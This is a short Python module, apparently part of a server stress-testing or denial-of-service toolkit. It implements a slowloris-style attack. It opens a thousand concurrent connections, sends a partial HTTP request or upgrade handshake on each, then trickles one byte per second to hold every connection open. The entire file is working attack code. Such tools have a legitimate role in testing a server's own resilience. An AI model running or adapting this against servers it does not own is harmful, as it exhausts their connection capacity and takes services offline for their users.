"""Connections send their requests, and their handshakes, a byte at a time."""

import asyncio

from ..aim import Aim
from ..sockets import UPGRADE, Raw

CONNECTIONS = 1000
_TEXTS = (b"GET / HTTP/1.1\r\nHost: localhost\r\n", UPGRADE)


async def attack(aim: Aim) -> None:
    async def trickle(number: int) -> None:
        while True:
            try:
                raw = await Raw.connect(aim)
            except OSError:
                await asyncio.sleep(0.1)
                continue
            is_open = await raw.write(_TEXTS[number % 2])
            while is_open:
                await asyncio.sleep(1)
                is_open = await raw.write(b"X")
            await asyncio.sleep(0.1)

    await asyncio.gather(*map(trickle, range(CONNECTIONS)))
